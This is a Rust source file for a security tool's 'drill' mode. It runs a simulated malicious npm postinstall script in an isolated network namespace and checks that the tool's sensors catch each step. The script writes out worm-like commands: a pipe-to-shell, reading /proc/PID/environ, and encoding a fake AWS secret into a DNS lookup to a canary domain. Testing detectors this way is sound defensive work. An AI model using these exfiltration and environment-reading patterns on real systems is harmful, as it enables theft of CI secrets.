//! `watcher drill`: a fire drill for a real runner. It runs a benign "malicious" install step
//! under a policy with the real sensors and the `watcher run` loop, and checks that each of its
//! five misdeeds was detected (and blocked in enforce mode):
//!
//! 1. a DNS lookup of a canary name,
//! 2. a TCP connect to a canary address (TEST-NET-1, 192.0.2.0/24),
//! 3. a shell spawned from the install script, reading its commands from a pipe (`... | sh`),
//! 4. a fake `AWS_SECRET_ACCESS_KEY` (generated per run) encoded in a DNS name,
//! 5. a read of another process's environment (`/proc/PID/environ` of the drill itself, which
//!    holds the fake secret: the shape of a worm reading the CI runner's secrets).
//!
//! Nothing leaves the machine: the step runs in a private network namespace the drill creates,
//! whose only interface is its own loopback, carrying the system resolver's address (with a
//! tiny DNS responder of the drill bound on it) and the canary address (a dummy interface
//! would do too, but the dummy module is not on every kernel). The cgroup hooks see the
//! packets; no interface leads out. Everything (namespace, cgroup, temporary files) is removed at the end,
//! also on failure.
//!
//! The install step looks like npm's to the kernel: `sh -c SCRIPT` started with
//! `npm_lifecycle_event=postinstall`; the script runs this same binary (hidden subcommand
//! `__drill-probe`) for the network probes, as a `node install.js` would.
use std::{
    io::Read as _,
    net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket},
    os::unix::process::CommandExt as _,
    path::{Path, PathBuf},
    process::Command,
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::Duration,
};

use crate::error::{Doing as _, Failed};

use crate::{
    engine::{RULE_CREDENTIAL, RULE_DNS_NAME, RULE_DNS_RESOLVER, RULE_EGRESS, RULE_SECRET, RULE_SHELL},
    policy::Mode,
    run::{AlertTiming, RunOptions},
};

/// The shipped npm policy, built in: `watcher drill` without `--policy` checks what users ship.
pub const BUILTIN_POLICY: &str = include_str!("../../policies/npm.yaml");
/// Exit code when a check was missed (not detected, or not blocked in enforce mode).
pub const DRILL_FAILED: i32 = 1;
/// The canary address the step connects to (TEST-NET-1, never routed on the internet).
pub const CANARY_IP: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 77);
pub const CANARY_PORT: u16 = 443;
/// The canary names live under this suffix (`.test` is reserved, RFC 2606).
pub const CANARY_DOMAIN: &str = "drill.watcher.test";
/// The variable holding the fake secret.
pub const SECRET_VAR: &str = "AWS_SECRET_ACCESS_KEY";

pub struct DrillOptions {
    pub policy: Option<PathBuf>,
    pub mode: Option<Mode>,
    pub log: Option<PathBuf>,
    pub ringbuf_bytes: u32,
}

/// The result of one check.
#[derive(Clone, Debug)]
pub struct Check {
    pub name: &'static str,
    pub rule: &'static str,
    /// The alert that detected it (the first one), if any.
    pub alert: Option<AlertTiming>,
}

impl Check {
    pub fn blocked(&self) -> bool {
        self.alert.as_ref().is_some_and(|a| a.alert.action == "deny" || a.alert.action == "kill")
    }

    pub fn passed(&self, enforce: bool) -> bool {
        self.alert.is_some() && (!enforce || self.blocked())
    }
}

/// Why a drill could not be run (a missed check is not an error: exit [`DRILL_FAILED`]).
#[derive(Debug, thiserror::Error)]
pub enum DrillError {
    #[error("watcher drill needs root: it loads the eBPF sensors and creates a network namespace")]
    NotRoot,
    #[error("`ip {args}` failed: {stderr}")]
    Ip { args: String, stderr: String },
    #[error("/etc/resolv.conf names no IPv4 nameserver: the drill impersonates the system resolver")]
    NoIpv4Resolver,
    #[error("starting sh: {0}")]
    StartSh(std::io::Error),
    #[error("usage: __drill-probe dns SERVER NAME | __drill-probe connect IP:PORT")]
    ProbeUsage,
    #[error(transparent)]
    Failed(#[from] Failed),
    #[error(transparent)]
    Io(#[from] std::io::Error),
    #[error(transparent)]
    Session(#[from] crate::session::SessionError),
    #[error(transparent)]
    Run(#[from] crate::run_error::RunError),
}

fn random_hex(bytes: usize) -> Result<String, DrillError> {
    let mut b = vec![0u8; bytes];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| f.read_exact(&mut b))
        .doing(|| "reading /dev/urandom".into())?;
    Ok(b.iter().map(|x| format!("{x:02x}")).collect())
}

/// Run `ip ARGS`, failing with its stderr.
fn ip(args: &[&str]) -> Result<(), DrillError> {
    let mut cmd = crate::system_tool::command("ip")
        .map_err(|e| DrillError::Ip { args: args.join(" "), stderr: e.to_string() })?;
    let out = cmd
        .args(args)
        .output()
        .doing(|| "running `ip` (iproute2 is needed to build the drill's network namespace)".into())?;
    if !out.status.success() {
        return Err(DrillError::Ip {
            args: args.join(" "),
            stderr: String::from_utf8_lossy(&out.stderr).trim().to_string(),
        });
    }
    Ok(())
}

/// The drill's network namespace; deleted on drop.
struct Netns {
    name: String,
}

/// Remove namespaces of earlier drills whose process is gone (killed with SIGKILL).
fn remove_stale_netns() {
    let Ok(mut ip_cmd) = crate::system_tool::command("ip") else { return };
    let Ok(out) = ip_cmd.args(["netns", "list"]).output() else { return };
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        let name = line.split_whitespace().next().unwrap_or("");
        if let Some(pid) = name.strip_prefix("watcher-drill-").and_then(|p| p.parse::<u32>().ok())
            && !Path::new(&format!("/proc/{pid}")).exists()
        {
            let _ = ip(&["netns", "del", name]);
        }
    }
}

impl Netns {
    fn create(name: String, local: &[IpAddr]) -> Result<Netns, DrillError> {
        remove_stale_netns();
        ip(&["netns", "add", &name])?;
        let ns = Netns { name }; // from here on, drop removes it
        let n = ns.name.as_str();
        ip(&["-n", n, "link", "set", "lo", "up"])?;
        for a in local {
            if a.is_loopback() && a.is_ipv4() {
                continue; // 127.0.0.0/8 is on lo already
            }
            let cidr = match a {
                IpAddr::V4(_) => format!("{a}/32"),
                IpAddr::V6(_) => format!("{a}/128"),
            };
            let mut args = vec!["-n", n, "addr", "add", cidr.as_str(), "dev", "lo"];
            if a.is_ipv6() {
                args.push("nodad");
            }
            ip(&args)?;
        }
        Ok(ns)
    }

    fn path(&self) -> PathBuf {
        Path::new("/run/netns").join(&self.name)
    }
}

impl Drop for Netns {
    fn drop(&mut self) {
        if let Err(e) = ip(&["netns", "del", &self.name]) {
            crate::say!(
                "watcher: drill: could not remove network namespace {}: {}",
                self.name,
                crate::error::chain(&e)
            );
        }
    }
}

/// Enter the network namespace at `path` (this thread only).
fn enter_netns(path: &Path) -> Result<(), DrillError> {
    let f = std::fs::File::open(path).doing(|| format!("opening {}", path.display()))?;
    nix::sched::setns(&f, nix::sched::CloneFlags::CLONE_NEWNET)
        .doing(|| format!("entering network namespace {}", path.display()))?;
    Ok(())
}

/// A tiny DNS responder on `addr:53` inside the namespace: every A query is answered with the
/// canary address, anything else with an empty NOERROR. Stops on drop.
struct Responder {
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Responder {
    fn start(netns: &Path, addr: Ipv4Addr) -> Result<Responder, DrillError> {
        let netns = netns.to_path_buf();
        let (tx, rx) = std::sync::mpsc::channel::<Result<(), DrillError>>();
        let stop = Arc::new(AtomicBool::new(false));
        let stop2 = stop.clone();
        // A thread of its own: setns changes only the calling thread, which then stays there.
        let thread = std::thread::spawn(move || {
            let sock = (|| {
                enter_netns(&netns)?;
                let s = UdpSocket::bind(SocketAddr::new(IpAddr::V4(addr), 53))
                    .doing(|| format!("binding the drill's DNS responder on {addr}:53"))?;
                s.set_read_timeout(Some(Duration::from_millis(100)))?;
                Ok(s)
            })();
            let sock = match sock {
                Ok(s) => {
                    let _ = tx.send(Ok(()));
                    s
                }
                Err(e) => {
                    let _ = tx.send(Err(e));
                    return;
                }
            };
            let mut buf = [0u8; 1500];
            while !stop2.load(Ordering::Relaxed) {
                if let Ok((n, from)) = sock.recv_from(&mut buf)
                    && let Some(reply) = dns_reply(&buf[..n], CANARY_IP)
                {
                    let _ = sock.send_to(&reply, from);
                }
            }
        });
        rx.recv().doing(|| "the DNS responder thread died".into())??;
        Ok(Responder { stop, thread: Some(thread) })
    }
}

impl Drop for Responder {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// Answer a one-question query: A -> `ip`, other types -> no answers. None if not a query.
pub fn dns_reply(q: &[u8], ip: Ipv4Addr) -> Option<Vec<u8>> {
    if q.len() < 12 || q[2] & 0x80 != 0 || u16::from_be_bytes([q[4], q[5]]) != 1 {
        return None;
    }
    let mut i = 12;
    loop {
        let l = *q.get(i)? as usize;
        if l == 0 {
            i += 1;
            break;
        }
        if l & 0xc0 != 0 {
            return None;
        }
        i += 1 + l;
    }
    let qend = i + 4;
    let question = q.get(12..qend)?;
    let qtype = u16::from_be_bytes([question[question.len() - 4], question[question.len() - 3]]);
    let a = qtype == 1;
    let mut r = Vec::with_capacity(qend + 16);
    r.extend_from_slice(&q[0..2]);
    r.extend_from_slice(&[0x81 | (q[2] & 0x01), 0x80]); // response, RD copied, RA, NOERROR
    r.extend_from_slice(&[0, 1, 0, a as u8, 0, 0, 0, 0]);
    r.extend_from_slice(question);
    if a {
        r.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
        r.extend_from_slice(&ip.octets());
    }
    Some(r)
}

/// A minimal DNS query for `name` (A, recursion desired).
pub fn dns_query(id: u16, name: &str) -> Vec<u8> {
    let mut q = Vec::with_capacity(name.len() + 18);
    q.extend_from_slice(&id.to_be_bytes());
    q.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.trim_end_matches('.').split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

/// Whether the watcher process `pid` (from a leftover's name) is gone.
fn gone(pid: &str) -> bool {
    pid.parse::<u32>().is_ok_and(|p| !Path::new(&format!("/proc/{p}")).exists())
}

/// Remove what an earlier drill killed with SIGKILL left behind: its temporary directory
/// (`watcher-drill-PID-TAG`, only when root's) and its run cgroup (`watcher-run-PID`, its
/// processes killed first). Namespaces are removed by [`Netns::create`].
fn remove_stale_leftovers() {
    use std::os::unix::fs::MetadataExt as _;
    if let Ok(dir) = std::fs::read_dir(std::env::temp_dir()) {
        for e in dir.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            let Some(rest) = name.strip_prefix("watcher-drill-") else { continue };
            let pid = rest.split('-').next().unwrap_or("");
            let Ok(m) = std::fs::symlink_metadata(e.path()) else { continue };
            if gone(pid) && m.is_dir() && m.uid() == 0 {
                let _ = std::fs::remove_dir_all(e.path());
            }
        }
    }
    let Ok(root) = crate::cgroup::cgroup2_root() else { return };
    let Ok(dir) = std::fs::read_dir(&root) else { return };
    for e in dir.flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        let Some(pid) = name.strip_prefix("watcher-run-") else { continue };
        if !gone(pid) {
            continue;
        }
        let cg = e.path();
        let _ = std::fs::write(cg.join("cgroup.kill"), "1");
        for _ in 0..100 {
            if std::fs::remove_dir(&cg).is_ok() || !cg.exists() {
                crate::say!("watcher drill: removed the cgroup {} left by a killed watcher", cg.display());
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }
}

/// Temporary directory for the drill's policy copy and script; removed on drop.
struct TempDir(PathBuf);

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn sh_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// The encoded secret as DNS labels (base32, lower case, split in labels of at most 32).
fn secret_labels(secret: &str) -> String {
    let enc = data_encoding::BASE32_NOPAD.encode(secret.as_bytes()).to_ascii_lowercase();
    enc.as_bytes().chunks(32).map(|c| std::str::from_utf8(c).unwrap_or("")).collect::<Vec<_>>().join(".")
}

/// `watcher drill`: returns the exit code (0 when every check passed, [`DRILL_FAILED`] if not).
pub fn drill(opts: DrillOptions) -> crate::Result<i32> {
    Ok(drill_inner(opts)?)
}

fn drill_inner(opts: DrillOptions) -> Result<i32, DrillError> {
    if !nix::unistd::geteuid().is_root() {
        return Err(DrillError::NotRoot);
    }
    let pid = std::process::id();
    let exe = std::env::current_exe().doing(|| "finding watcher's own executable".into())?;
    let tag = random_hex(4)?;
    // Obviously fake, different on every run; set before any thread exists, because the run
    // loop reads the secrets to look for from this process's environment and the step inherits it.
    let secret = format!("FAKEdrillSECRET{}", random_hex(12)?);
    // SAFETY: no other thread runs yet (the runtime and the responder start below).
    unsafe { std::env::set_var(SECRET_VAR, &secret) };
    let canary_name = format!("canary-{tag}.{CANARY_DOMAIN}");
    let secret_name = format!("{}.x-{tag}.{CANARY_DOMAIN}", secret_labels(&secret));

    remove_stale_leftovers();
    // A fresh private directory: the name is not guessable, and an existing one is an error.
    let tmp = TempDir(std::env::temp_dir().join(format!("watcher-drill-{pid}-{tag}")));
    std::os::unix::fs::DirBuilderExt::mode(&mut std::fs::DirBuilder::new(), 0o700)
        .create(&tmp.0)
        .doing(|| format!("creating {}", tmp.0.display()))?;
    let policy = match &opts.policy {
        Some(p) => p.clone(),
        None => {
            let p = tmp.0.join("npm.yaml");
            std::fs::write(&p, BUILTIN_POLICY).doing(|| format!("writing {}", p.display()))?;
            p
        }
    };
    // The policy first: a bad one is the user's error, before anything is built.
    let prepared = crate::session::prepare(Some(&policy), opts.mode)?;
    let mode = prepared.policy.as_ref().map(|p| p.mode).unwrap_or(Mode::Audit);
    drop(prepared);

    let resolvers = crate::probe::system_resolvers();
    let Some(resolver) = resolvers.iter().find_map(|r| match r {
        IpAddr::V4(v4) => Some(*v4),
        IpAddr::V6(_) => None,
    }) else {
        return Err(DrillError::NoIpv4Resolver);
    };
    let mut local: Vec<IpAddr> = vec![IpAddr::V4(resolver), IpAddr::V4(CANARY_IP)];
    local.dedup();
    let netns = Netns::create(format!("watcher-drill-{pid}"), &local)?;
    let responder = Responder::start(&netns.path(), resolver)?;

    let w = sh_quote(&exe.to_string_lossy());
    let script = format!(
        "{w} __drill-probe dns {resolver} {canary_name}\n\
         {w} __drill-probe connect {CANARY_IP}:{CANARY_PORT}\n\
         echo 'echo watcher drill: a shell from an install script, fed by a pipe' | sh || true\n\
         {w} __drill-probe dns {resolver} {secret_name}\n\
         cat /proc/{pid}/environ >/dev/null 2>&1 || true\n\
         exit 0\n"
    );
    let command = vec![
        exe.to_string_lossy().into_owned(),
        "__drill-step".into(),
        netns.path().to_string_lossy().into_owned(),
        script,
    ];
    crate::show!(
        "watcher drill: policy {}, {} mode; step in network namespace {}",
        policy.display(),
        mode.as_str(),
        netns.name
    );
    let result = crate::run::run_timed(RunOptions {
        command: command.into_iter().map(Into::into).collect(),
        log: opts.log.clone(),
        quiet: true,
        ringbuf_bytes: opts.ringbuf_bytes,
        policy: Some(policy.clone()),
        report: Vec::new(),
        report_format: None,
        user: None,
        mode: opts.mode,
        bench_disable: Default::default(),
    });
    drop(responder);
    drop(netns);
    drop(tmp);
    let (_code, timings) = result?;

    let find = |rule: &str, needle: &str| {
        timings.iter().find(|t| t.alert.rule == rule && t.alert.message.contains(needle)).cloned()
    };
    // A policy whose resolvers exclude the system's catches the lookup by its resolver.
    let dns_alert = find(RULE_DNS_NAME, &canary_name).or_else(|| find(RULE_DNS_RESOLVER, &canary_name));
    let checks = [
        Check { name: "canary DNS lookup", rule: RULE_DNS_NAME, alert: dns_alert },
        Check {
            name: "connect to canary address",
            rule: RULE_EGRESS,
            alert: find(RULE_EGRESS, &CANARY_IP.to_string()),
        },
        Check { name: "shell from install script", rule: RULE_SHELL, alert: find(RULE_SHELL, "") },
        Check { name: "secret in DNS name", rule: RULE_SECRET, alert: find(RULE_SECRET, SECRET_VAR) },
        Check {
            name: "other process's environment",
            rule: RULE_CREDENTIAL,
            alert: find(RULE_CREDENTIAL, &format!("environment of process {pid},")),
        },
    ];
    let enforce = mode == Mode::Enforce;
    crate::show_text!("{}", render(&checks, enforce));
    let missed = checks.iter().filter(|c| !c.passed(enforce)).count();
    if missed == 0 {
        crate::show!(
            "watcher drill: PASS: all {} checks detected{}",
            checks.len(),
            if enforce { " and blocked" } else { "" }
        );
        Ok(0)
    } else {
        crate::show!("watcher drill: FAIL: {missed} of {} checks missed", checks.len());
        Ok(DRILL_FAILED)
    }
}

/// The result table.
pub fn render(checks: &[Check], enforce: bool) -> String {
    let mut s = format!("{:<28} {:<9} {:<27} {:<8} {:>15}\n", "check", "detected", "rule", "blocked", "time to detect");
    for c in checks {
        let (det, rule, ttd) = match &c.alert {
            Some(a) => ("yes", a.alert.rule.as_str(), format!("{:.3} ms", a.latency_ns as f64 / 1e6)),
            None => ("NO", c.rule, "-".to_string()),
        };
        let blocked = match (enforce, c.blocked()) {
            (false, true) => "yes",
            (false, false) => "n/a",
            (true, true) => "yes",
            (true, false) => "NO",
        };
        s += &format!("{:<28} {:<9} {:<27} {:<8} {:>15}\n", c.name, det, rule, blocked, ttd);
    }
    s
}

/// Hidden `__drill-step NETNS SCRIPT`: enter the namespace and become npm's lifecycle shell.
pub fn step(netns: &Path, script: &str) -> crate::Result<i32> {
    enter_netns(netns)?;
    let err = Command::new("sh")
        .arg("-c")
        .arg(script)
        .env("npm_lifecycle_event", "postinstall")
        .env("npm_package_name", "watcher-drill-canary")
        .env("npm_package_version", "0.0.0-drill")
        .exec();
    Err(DrillError::StartSh(err).into())
}

/// Hidden `__drill-probe dns SERVER NAME` / `__drill-probe connect IP:PORT`: the network
/// misdeeds of the fake install script. Failures (denied, refused) are expected and ignored.
pub fn probe(args: &[String]) -> crate::Result<i32> {
    Ok(probe_inner(args)?)
}

fn probe_inner(args: &[String]) -> Result<i32, DrillError> {
    match args {
        [kind, server, name] if kind == "dns" => {
            let server: IpAddr = server.parse().doing(|| format!("bad server address {server}"))?;
            let s = UdpSocket::bind(SocketAddr::new(IpAddr::V4(Ipv4Addr::UNSPECIFIED), 0))?;
            s.set_read_timeout(Some(Duration::from_millis(500)))?;
            if s.connect(SocketAddr::new(server, 53)).is_ok() {
                let id = std::process::id() as u16;
                if s.send(&dns_query(id, name)).is_ok() {
                    let mut buf = [0u8; 512];
                    let _ = s.recv(&mut buf);
                }
            }
            Ok(0)
        }
        [kind, addr] if kind == "connect" => {
            let addr: SocketAddr = addr.parse().doing(|| format!("bad address {addr}"))?;
            let _ = std::net::TcpStream::connect_timeout(&addr, Duration::from_millis(500));
            Ok(0)
        }
        _ => Err(DrillError::ProbeUsage),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reply_answers_a_query_with_the_canary() {
        let q = dns_query(0x1234, "canary-1.drill.watcher.test");
        let r = dns_reply(&q, CANARY_IP).unwrap();
        let msg = crate::dns::parse(&r, crate::dns::Transport::Udp).unwrap();
        assert_eq!(msg.id, 0x1234);
        assert!(msg.is_response);
        assert_eq!(crate::dns::resolved_ips(&msg), vec![IpAddr::V4(CANARY_IP)]);
    }

    #[test]
    fn reply_refuses_responses_and_garbage() {
        let mut q = dns_query(1, "a.test");
        assert!(dns_reply(&q[..5], CANARY_IP).is_none());
        q[2] |= 0x80;
        assert!(dns_reply(&q, CANARY_IP).is_none());
    }

    #[test]
    fn secret_is_found_in_its_dns_name() {
        let secret = "FAKEdrillSECRET0123456789abcdef01234567";
        let set =
            crate::secrets::SecretSet::new(&["AWS_*".to_string()], [(SECRET_VAR.to_string(), secret.to_string())])
                .unwrap();
        let name = format!("{}.x-1.{CANARY_DOMAIN}", secret_labels(secret));
        assert!(name.split('.').all(|l| l.len() <= 63));
        let m = set.find_in_dns_name(&name);
        assert!(m.iter().any(|m| m.variable == SECRET_VAR), "{m:?}");
    }

    #[test]
    fn failed_check_renders_as_missed() {
        let checks = [Check { name: "canary DNS lookup", rule: RULE_DNS_NAME, alert: None }];
        assert!(!checks[0].passed(false));
        assert!(render(&checks, true).contains("NO"));
    }
}
